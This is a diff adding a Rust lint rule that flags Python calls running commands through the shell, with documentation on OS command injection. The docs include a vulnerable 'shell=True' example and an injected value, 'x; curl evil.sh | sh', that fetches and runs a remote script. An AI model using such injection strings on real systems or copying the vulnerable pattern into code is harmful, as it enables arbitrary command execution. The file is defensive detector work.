@@ -1,0 +1,155 @@
+//! `subprocess-shell-true`: a command run through the system shell.
+
+use crate::context::Context;
+use crate::rule::{Check, Rule};
+use moat_diagnostics::{Category, Confidence, Owasp, RuleMeta, Severity};
+use moat_python::Ranged;
+use moat_python::ast::{Expr, ExprCall};
+use moat_semantic::Constant;
+
+const DOCS: &str = r#"## What it does
+Flags calls that run a command line through the system shell: `subprocess` functions
+called with a true `shell=` argument (also when the value comes from a constant such as
+`SHELL = True`), and functions that always use a shell: `os.system`, `os.popen`,
+`subprocess.getoutput`, `subprocess.getstatusoutput`, `asyncio.create_subprocess_shell`
+and the `commands`/`popen2` modules of Python 2.
+
+A command that is a constant string is reported with low severity: it cannot be injected
+into today, but the shell is still one edit away from user input.
+
+## Why is this bad?
+The shell interprets its whole input: `;`, `|`, `&&`, `$(…)`, backticks, globbing and
+redirections. If any part of the command comes from a user, a file name, a header or the
+environment, an attacker can append commands of their own (OS command injection).
+Quoting by hand is easy to get wrong.
+
+## Example
+```python
+import subprocess
+
+def archive(name):
+    subprocess.run(f"tar czf /backups/{name}.tgz /srv/data", shell=True)
+```
+A `name` of `x; curl evil.sh | sh` runs the attacker's script.
+
+## Use instead
+Pass the program and its arguments as a list, without a shell:
+```python
+import subprocess
+
+def archive(name):
+    subprocess.run(["tar", "czf", f"/backups/{name}.tgz", "/srv/data"], check=True)
+```
+If a shell is truly needed, quote every untrusted part with `shlex.quote`.
+
+## References
+- CWE-78: Improper Neutralization of Special Elements used in an OS Command
+- CWE-77: Improper Neutralization of Special Elements used in a Command
+- OWASP Top 10 2025: A05 Injection
+- Python docs: `subprocess` — Security Considerations
+"#;
+
+/// Metadata of `subprocess-shell-true`.
+pub static META: RuleMeta = RuleMeta {
+    id: "subprocess-shell-true",
+    title: "Command run through a shell",
+    category: Category::Injection,
+    cwe: &[78, 77],
+    owasp: Owasp::A05Injection,
+    severity: Severity::High,
+    confidence: Confidence::High,
+    default_enabled: true,
+    bandit: &["B602", "B604", "B605", "B609"],
+    ruff: &["S602", "S604", "S605", "S609"],
+    docs: DOCS,
+};
+
+/// The rule: inspects calls into modules that start processes.
+pub const RULE: Rule = Rule {
+    meta: &META,
+    checks: &[Check::Call(check)],
+    modules: &["subprocess", "os", "asyncio", "commands", "popen2"],
+};
+
+/// Functions that take a `shell=` argument.
+const SHELL_ARGUMENT: &[&str] = &[
+    "subprocess.Popen",
+    "subprocess.call",
+    "subprocess.check_call",
+    "subprocess.check_output",
+    "subprocess.run",
+];
+
+/// Functions that always run their command through a shell.
+const ALWAYS_SHELL: &[&str] = &[
+    "os.system",
+    "os.popen",
+    "os.popen2",
+    "os.popen3",
+    "os.popen4",
+    "subprocess.getoutput",
+    "subprocess.getstatusoutput",
+    "asyncio.create_subprocess_shell",
+    "commands.getoutput",
+    "commands.getstatusoutput",
+    "popen2.popen2",
+    "popen2.popen3",
+    "popen2.popen4",
+    "popen2.Popen3",
+    "popen2.Popen4",
+];
+
+fn check(ctx: &mut Context<'_, '_>, call: &ExprCall, callee: &str) {
+    let command = call
+        .arguments
+        .find_argument_value("args", 0)
+        .or_else(|| call.arguments.find_argument_value("cmd", 0))
+        .or_else(|| call.arguments.find_argument_value("command", 0));
+    if SHELL_ARGUMENT.contains(&callee) {
+        let Some(shell) = call.arguments.find_keyword("shell") else {
+            return;
+        };
+        let Some(value) = ctx.constant(&shell.value) else {
+            return;
+        };
+        if !value.is_truthy() {
+            return;
+        }
+        let how = if shell.value.is_boolean_literal_expr() {
+            "`shell=True`".to_string()
+        } else {
+            format!("`shell={}`, which is true", ctx.text(&shell.value))
+        };
+        report(ctx, call, callee, command, &how);
+    } else if ALWAYS_SHELL.contains(&callee) {
+        report(ctx, call, callee, command, "the shell it always uses");
+    }
+}
+
+fn report(
+    ctx: &mut Context<'_, '_>,
+    call: &ExprCall,
+    callee: &str,
+    command: Option<&Expr>,
+    how: &str,
+) {
+    let constant_command = command
+        .and_then(|c| ctx.constant(c))
+        .is_some_and(|c| matches!(c, Constant::Str(_) | Constant::Tuple(_)));
+    if constant_command {
+        ctx.report(
+            call.range(),
+            format!("`{callee}` runs a constant command through {how}; no input reaches it today, but a list of arguments without a shell is safer"),
+        )
+        .severity(Severity::Low);
+    } else {
+        let what = command.map_or_else(
+            || "its command".to_string(),
+            |c| format!("`{}`", ctx.snippet(c)),
+        );
+        ctx.report(
+            call.range(),
+            format!("`{callee}` runs {what} through {how}; if any part of it comes from outside, an attacker can inject shell commands"),
+        );
+    }
+}
